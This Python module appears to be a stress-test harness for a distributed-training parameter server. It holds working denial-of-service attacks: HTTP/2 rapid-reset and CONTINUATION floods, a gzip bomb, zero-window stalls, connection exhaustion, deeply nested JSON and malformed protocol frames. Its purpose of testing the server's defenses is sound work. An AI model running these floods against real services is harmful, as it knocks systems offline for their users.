"""What an attacker does to a parameter server: every attack is a function of what it knows, and ends by itself.

A stranger's attack comes with TLS by the job's certificate and without a token; a worker's with its token.
"""
import functools
import resource
import socket
import ssl
import struct
import threading
import time
import zlib
from dataclasses import dataclass

from handmade import (CONTINUATION, END_HEADERS, HEADERS, HEALTH, PING, RST_STREAM, SERVICE, SETTINGS, VERBS, Access, Gone,
                      Http2, Worker, crc32c_joined, crc32c_repeated, grpc_message, hpack_int, http2_frame, job_spec, message)


@dataclass
class Target:
    """What an attacker knows: where the server is, and how to come in."""
    endpoint: str
    stranger: Access
    worker: Access
    seconds: float
    tables: str = ""  # of the job, as its workers bring them

    def again(self, attack):
        """Until the time is over: `attack` gets a connection, and another when the server has closed it."""
        end = time.monotonic() + self.seconds
        while time.monotonic() < end:
            try:
                attack(end)
            except Gone:
                time.sleep(0.001)

    def member(self, rank=0):
        """By the identity of the job's own ledger."""
        return Worker(self.endpoint, rank, 1000 + rank, self.worker)


# ---- strangers ----

def reset_flood(path):
    def attack(target):
        def flood(end):
            http2 = Http2(target.endpoint, target.stranger)
            block, reset = http2.head(path), struct.pack(">I", 8)
            stream = 1
            while time.monotonic() < end:
                batch = b""
                for _ in range(100):
                    batch += http2_frame(HEADERS, END_HEADERS, stream, block) + http2_frame(RST_STREAM, 0, stream, reset)
                    stream += 2
                http2.send(batch)
        target.again(flood)
    attack.__doc__ = f"rapid reset: HEADERS and RST_STREAM of {path or 'no path'}, as fast as it goes"
    return attack


def header_block(target):
    """a header block of 115 MiB: one value, by CONTINUATION"""
    def flood(end):
        http2 = Http2(target.endpoint, target.stranger)
        size = 115 << 20
        http2.send(http2_frame(HEADERS, 0, 1, http2.head(SERVICE + "Status") + b"\x00\x01x" + hpack_int(size, 7)))
        piece = http2_frame(CONTINUATION, 0, 1, bytes(16384)) * 64
        for _ in range(size // (16384 * 64)):
            http2.send(piece)
            if time.monotonic() > end:
                return
        http2.step()
    target.again(flood)


def header_blocks(target):
    """four connections, each with a header block after a call that was served"""
    def flood(end):
        http2s = [Http2(target.endpoint, target.stranger) for _ in range(4)]
        for http2 in http2s:
            http2.call(HEALTH, b"")
            http2.send(http2_frame(HEADERS, 0, 3, http2.head(SERVICE + "Status") + b"\x00\x01x" + hpack_int(1 << 28, 7)))
        piece = http2_frame(CONTINUATION, 0, 3, bytes(16384)) * 16
        while time.monotonic() < end:
            for http2 in http2s:
                http2.send(piece)
    target.again(flood)


@functools.cache
def zeros(mebibytes):
    """So many of them, compressed by gzip."""
    piece, crc = bytes(1 << 20), 0
    for _ in range(mebibytes):
        crc = zlib.crc32(piece, crc)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(piece) + deflate.flush(zlib.Z_FULL_FLUSH)
    return (b"\x1f\x8b\x08" + bytes(6) + b"\x03" + block * mebibytes + b"\x03\x00" +
            struct.pack("<II", crc, mebibytes << 20))


def bomb(target, verb):
    def flood(end):
        http2 = Http2(target.endpoint, target.worker)
        while time.monotonic() < end:
            stream = http2.open(SERVICE + verb, ("grpc-encoding", "gzip"))
            http2.write(stream, grpc_message(zeros(400), True), end=True)
            http2.end(stream)
    target.again(flood)


def gzip_bomb(target):
    """400 MiB of zeros, compressed, as a request of Connect; by a worker, so that it is read"""
    bomb(target, "Connect")


def gzip_lane(target):
    """the same as a lane's first frame"""
    bomb(target, "Lane")


def unread_data(target):
    """bytes of 60 requests that never end, on each of four connections"""
    def flood(end):
        http2s = [Http2(target.endpoint, target.stranger) for _ in range(4)]
        streams = [(http2, http2.open(SERVICE + verb)) for http2 in http2s for verb in ("Connect", "Lane") * 30]
        for http2, stream in streams:
            http2.write(stream, struct.pack(">BI", 0, 60 << 20))
        while time.monotonic() < end:
            for http2, stream in streams:
                if http2.windows[0] > 1 << 16 and http2.windows[stream] > 1 << 16:
                    http2.write(stream, bytes(1 << 16))
                http2.drain()
    target.again(flood)


def silent_calls(target):
    """calls that send no request, 60 on each of 40 connections"""
    def flood(end):
        http2s = [Http2(target.endpoint, target.stranger) for _ in range(40)]
        for http2 in http2s:
            for _ in range(60):
                http2.open(SERVICE + "Connect")
        while time.monotonic() < end:
            time.sleep(0.05)
            for http2 in http2s:
                http2.send(http2_frame(PING, 0, 0, bytes(8)))
    target.again(flood)


def silent_lanes(target):
    """lanes that say nothing: 60 on each of 20 connections, opened again when they are closed"""
    def flood(end):
        http2s = [Http2(target.endpoint, target.stranger) for _ in range(20)]
        while time.monotonic() < end:
            for http2 in http2s:
                for _ in range(3):
                    http2.open(SERVICE + "Lane")
            time.sleep(0.02)
    target.again(flood)


def many_lanes(target):
    """lanes that say nothing, one on each of 300 connections"""
    def flood(end):
        http2s = []
        while time.monotonic() < end:
            try:
                http2s.append(Http2(target.endpoint, target.stranger))
                http2s[-1].open(SERVICE + "Lane")
            except Gone:
                pass
            if len(http2s) > 300:
                http2s.pop(0).close()
    target.again(flood)


def connections(target):
    """connections that say nothing, ever more of them"""
    host, port = target.endpoint.rsplit(":", 1)
    held, end = [], time.monotonic() + target.seconds
    while time.monotonic() < end:
        try:
            held.append(socket.create_connection((host, int(port)), 5))
        except OSError:
            time.sleep(0.01)
        if len(held) > 4000:
            held.pop(0).close()


def pings(target):
    """PING frames"""
    def flood(end):
        http2 = Http2(target.endpoint, target.stranger)
        batch = http2_frame(PING, 0, 0, bytes(8)) * 500
        http2.sock.setblocking(False)
        while time.monotonic() < end:
            try:
                http2.sock.send(batch)
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                time.sleep(0.001)
            except OSError as error:
                raise Gone(str(error)) from None
    target.again(flood)


def status_calls(target):
    """calls of Status and the health service, 60 at once on each of three connections"""
    def flood(end):
        http2s = [Http2(target.endpoint, target.stranger) for _ in range(3)]
        while time.monotonic() < end:
            waiting = []
            for http2 in http2s:
                for i in range(60):
                    stream = http2.open(SERVICE + "Status" if i % 2 else HEALTH)
                    http2.write(stream, grpc_message(b""), end=True)
                    waiting.append((http2, stream))
            for http2, stream in waiting:
                http2.end(stream)
    target.again(flood)


NO_WINDOW = http2_frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))  # SETTINGS_INITIAL_WINDOW_SIZE: no reply can leave


def unread_replies(target):
    """calls of the health service whose replies cannot leave, 60 on each of 500 connections"""
    held, end = [], time.monotonic() + target.seconds
    while time.monotonic() < end:
        try:
            http2 = Http2(target.endpoint, target.stranger)
            http2.send(NO_WINDOW)
            for _ in range(60):
                http2.write(http2.open(HEALTH), grpc_message(b""), end=True)
            held.append(http2)
        except Gone:
            time.sleep(0.001)
        if len(held) > 500:
            held.pop(0).close()


# ---- one bad worker, with its token ----

def waiting_calls(target):
    """480 all-gather calls of one worker that wait"""
    def flood(end):
        workers = [target.member() for _ in range(8)]
        for i, worker in enumerate(workers):
            for j in range(60):
                stream = worker.control.open(SERVICE + "Gather")
                worker.control.write(stream, grpc_message(worker.gather_request(f"w{i}.{j}")), end=True)
        while time.monotonic() < end:
            time.sleep(0.1)
            for worker in workers:
                worker.heartbeat()
    target.again(flood)


def gather_cancelled(target):
    """all-gather payloads of 7 and of 31 MiB, cancelled when they are there, under ever new names"""
    def flood(end):
        worker, i = target.member(), 0
        while time.monotonic() < end:
            for size in (7 << 20, 31 << 20):
                i += 1
                stream = worker.control.open(SERVICE + "Gather")
                worker.control.write(stream, grpc_message(worker.gather_request(f"c{i}", bytes(size))), end=True)
                worker.heartbeat()
                if worker.control.status(stream) is None:
                    worker.control.cancel(stream)
    target.again(flood)


def gather_timeout(target):
    """all-gather payloads of 30 MiB that time out after 10 ms, under ever new names"""
    def flood(end):
        worker, i = target.member(), 0
        while time.monotonic() < end:
            i += 1
            worker.gather(f"t{i}", bytes(30 << 20), timeout=0.01)
    target.again(flood)


def connect_again(target, tables, incarnation=1001, **spec):
    """Connect of worker 1, with tables of its own."""
    worker = Worker(target.endpoint, 1, incarnation, target.worker, timeout=60)
    worker.connect(job_spec(tables, workers=2, **spec))
    worker.close()


def nested_tables(target):
    """Connect with tables that are nested 200 000 deep, in a field that nobody knows"""
    deep = target.tables.replace("{", '{"deep": ' + '{"a":' * 200_000 + "1" + "}" * 200_000 + ", ", 1)
    target.again(lambda end: connect_again(target, deep))


def large_tables(target):
    """Connect with 1.1 MB of tables"""
    many = target.tables.replace("{", '{"many": {' + ", ".join(f'"k{i}": {i}' for i in range(70_000)) + "}, ", 1)
    target.again(lambda end: connect_again(target, many))


def parallel_tables(target):
    """Connect with 1 MB of tables, most of it empty lists, on 16 connections at a time"""
    many = target.tables.replace("{", '{"many": [' + ",".join(["[]"] * 350_000) + "], ", 1)

    def flood(_):
        threads = [threading.Thread(target=connect_again, args=(target, many)) for _ in range(16)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    target.again(flood)


def long_paths(target):
    """Connect with tables that have a long key above many numbers"""
    many = target.tables.replace("{", '{"' + "k" * 20_000 + '": [' + ",".join("1" * 100_000) + "], ", 1)
    target.again(lambda end: connect_again(target, many))


def far_rounds(target):
    """geo: changes of a pass that is far away, and the end of one"""
    row = [(8, message((2, 1), (3, 4)))]
    bad_frames(target, 0, [("COMBINE", [(4, 1 << 47), *row, (26, 1), (27, 16)], struct.pack("<Q4f", first_key(), 0, 0, 0, 0)),
                           ("LEAVE", [(4, 1 << 47)], b"")])


def displace(target):
    """Connect as worker 1, which lives, with another incarnation"""
    target.again(lambda end: connect_again(target, target.tables, 4242, on_loss="await", wait=60))


def bad_frames(target, lane, frames):
    """Requests of worker 1 by hand, down one of its lanes, again and again."""
    def flood(end):
        by_hand = target.member(1).lane(lane)
        while time.monotonic() < end:
            for verb, fields, body in frames:
                by_hand.ask(verb, *fields, body=body, number=1 << 40)
    target.again(flood)


def first_key(shard=0):
    """A key of a virtual shard, by the hash of src/base/hash.h."""
    most = (1 << 64) - 1
    for key in range(1 << 20):
        x = (key + 0x9E3779B97F4A7C15) & most
        x = (x ^ x >> 30) * 0xBF58476D1CE4E5B9 & most
        x = (x ^ x >> 27) * 0x94D049BB133111EB & most
        if (x ^ x >> 31) >> 54 == shard:
            return key
    raise ValueError("no key")


def far_steps(target):
    """sync: pushes of ever later steps, 100 kB each"""
    def flood(end):
        by_hand, step, rows = target.member(1).lane(0), 1 << 20, 4096
        body = struct.pack("<Q", first_key()) * rows + bytes(16 * rows)
        while time.monotonic() < end:
            step += 1
            by_hand.ask("PUSH", (3, step), (6, 1), (8, message((2, rows), (3, 4))), body=body, number=(1 << 40) + step)
    target.again(flood)


def far_dense_steps(target):
    """sync: dense gradients of ever later steps, and of a pass that cannot be"""
    bad_frames(target, 2, [("PUSH_DENSE", [(3, 1 << 20 | i), (6, 1)], bytes(256)) for i in range(100)] +
               [("PUSH_DENSE", [(4, 1 << 63), (6, 1)], bytes(256))])


def far_begin(target):
    """sync: BEGIN at a step that cannot be, and at one far away"""
    bad_frames(target, 0, [("BEGIN", [(3, (1 << 64) - 1)], b""), ("BEGIN", [(3, 1 << 40)], b"")])


class Drip:
    """A stream that sends ever more of one message, which has 60 MiB to come."""

    def __init__(self, http2, stream):
        self.http2, self.stream, self.left = http2, stream, 60 << 20
        http2.write(stream, struct.pack(">BI", 0, 60 << 20))

    def send(self):
        """What the server has room for; whether that was anything."""
        self.http2.drain()
        room = min(self.left, self.http2.windows[0], self.http2.windows[self.stream], 1 << 20)
        if room <= 0 or self.http2.status(self.stream) is not None:
            return False
        self.http2.write(self.stream, bytes(room))
        self.left -= room
        return True


def unfinished_frames(target):
    """60 MiB of a message that does not end: three lanes of a worker, three without HELLO, 14 connections with a Gather"""
    def lane(hello):
        worker = target.member()
        opened = worker.lane(0, hello)
        worker.close()
        if hello and opened.hello[0] != 0:
            raise Gone("no lane is free")
        return Drip(opened.http2, opened.stream)

    def gather():
        worker = target.member()
        worker.heartbeat()
        return Drip(worker.control, worker.control.open(SERVICE + "Gather"))

    opens = [lambda: lane(True)] * 3 + [lambda: lane(False)] * 3 + [gather] * 14
    drips, end = [None] * len(opens), time.monotonic() + target.seconds
    while time.monotonic() < end:
        moved = False
        for i, drip in enumerate(drips):
            try:
                if drip is None:
                    drips[i] = opens[i]()
                else:
                    moved |= drip.send()
            except Gone:
                drips[i] = None
        if not moved:
            time.sleep(0.002)


def unfinished_calls(target):
    """the same by 60 Gather calls of one connection, on which heartbeats are served meanwhile"""
    def flood(end):
        worker = target.member()
        drips = [Drip(worker.control, worker.control.open(SERVICE + "Gather")) for _ in range(60)]
        while time.monotonic() < end:
            worker.heartbeat()
            if not any([drip.send() for drip in drips]):
                time.sleep(0.002)
    target.again(flood)


def held_pushes(target):
    """await: frames of pushes that do not end, down three streams, 24 MB each in the server's memory"""
    rows, number = 1_000_000, 1 << 40

    def flood(end):
        nonlocal number
        pushes = []
        for lane, shard in ((0, 0), (1, 512), (0, 0)):
            key = struct.pack("<H", first_key(shard))
            pushes.append([target.member().lane(lane), key * rows + bytes(8 * rows), 0,
                           crc32c_joined(crc32c_repeated(key, rows), crc32c_repeated(b"\0", 8 * rows), 8 * rows)])
        while time.monotonic() < end:
            for push in pushes:
                lane, body, part, crc = push
                number, push[2] = number + 1, part + 1
                section = message((2, rows), (3, 4), (4, 2))
                code, *_ = lane.ask("PUSH", (4, 1 << 40), (6, 1), (8, section), (15, True), (16, 1), (17, 0), (25, part + 1),
                                    body=body, number=number, body_crc=crc)
                if code != 0:
                    push[2] = 0
    target.again(flood)


def worker_connections(target):
    """ever more connections of one worker, up to 3500, each with a heartbeat"""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held, end = [], time.monotonic() + target.seconds
    while time.monotonic() < end:
        try:
            held.append(target.member())
            held[-1].heartbeat()
        except Gone:
            pass
        if len(held) > 3500:
            held.pop(0).close()


def unread_rows(target):
    """pulls of ever more rows, 8 MB each, down every stream that a worker may have; it reads none of them"""
    rows, number = 500_000, 1 << 40

    def flood(end):
        nonlocal number
        lanes = []
        for lane, shard in ((0, 0), (1, 512)) * 2:
            key = struct.pack("<H", first_key(shard))
            lanes.append((target.member().lane(lane), key * rows, crc32c_repeated(key, rows)))
            lanes[-1][0].http2.send(NO_WINDOW)
        while time.monotonic() < end:
            for lane, body, crc in lanes:
                number += 1
                section = message((2, rows), (3, 4), (4, 2))
                if min(lane.http2.windows[0], lane.http2.windows[lane.stream]) < len(body) + 4096:
                    lane.http2.drain(0.01)
                    continue
                lane.send(message((1, VERBS["PULL"]), (2, number), (8, section)), body, body_crc=crc)
    target.again(flood)


def unread_gathers(target):
    """the results of all-gathers, 30 MiB each, asked for again and again and not read"""
    def flood(end):
        both = [target.member(rank) for rank in (0, 1)]
        name = f"large {time.monotonic()}"
        for worker, payload in zip(both, (bytes(30 << 20), b"")):
            stream = worker.control.open(SERVICE + "Gather")
            worker.control.write(stream, grpc_message(worker.gather_request(name, payload)), end=True)
        held = []
        while time.monotonic() < end:
            try:
                worker = target.member()
                worker.control.send(NO_WINDOW)
                for _ in range(8):
                    stream = worker.control.open(SERVICE + "Gather")
                    worker.control.write(stream, grpc_message(worker.gather_request(name, bytes(100))), end=True)
                held.append(worker)
            except Gone:
                pass
            if len(held) > 100:
                held.pop(0).close()
    target.again(flood)


def nan_differences(target):
    """ADD_DENSE with NaN, which belongs to geo"""
    bad_frames(target, 2, [("ADD_DENSE", [], struct.pack("<f", float("nan")) * 64)])


STRANGERS = {"reset_verb": reset_flood(SERVICE + "Heartbeat"), "reset_lane": reset_flood(SERVICE + "Lane"),
             "reset_unknown": reset_flood("/some.Other/Call"), "reset_health": reset_flood(HEALTH),
             "header_block": header_block, "header_blocks": header_blocks, "unread_data": unread_data,
             "silent_calls": silent_calls, "silent_lanes": silent_lanes, "many_lanes": many_lanes,
             "connections": connections, "pings": pings, "status_calls": status_calls,
             "unread_replies": unread_replies}
WORKERS = {"gzip_bomb": gzip_bomb, "gzip_lane": gzip_lane, "waiting_calls": waiting_calls,
           "gather_cancelled": gather_cancelled, "gather_timeout": gather_timeout, "nested_tables": nested_tables,
           "large_tables": large_tables, "parallel_tables": parallel_tables, "long_paths": long_paths,
           "far_rounds": far_rounds, "displace": displace, "far_steps": far_steps,
           "far_dense_steps": far_dense_steps, "far_begin": far_begin, "nan_differences": nan_differences,
           "unfinished_frames": unfinished_frames, "unfinished_calls": unfinished_calls, "held_pushes": held_pushes,
           "worker_connections": worker_connections, "unread_rows": unread_rows, "unread_gathers": unread_gathers}
# What of the job an attack needs; async and no return of workers otherwise.
NEEDS = (dict.fromkeys(("far_steps", "far_dense_steps", "far_begin"), ("sync",)) |
         {"far_rounds": ("geo",),
          "displace": ("async", "--on_loss", "await"),
          # Every push of the worker itself, whose lanes the attacker uses, drops what is held there.
          "held_pushes": ("async", "--on_loss", "await", "--pause", 1)})
ATTACKS = STRANGERS | WORKERS
LEAST = dict.fromkeys(("unfinished_frames", "unfinished_calls", "held_pushes", "unread_gathers"), 2.0)  # seconds, to send much
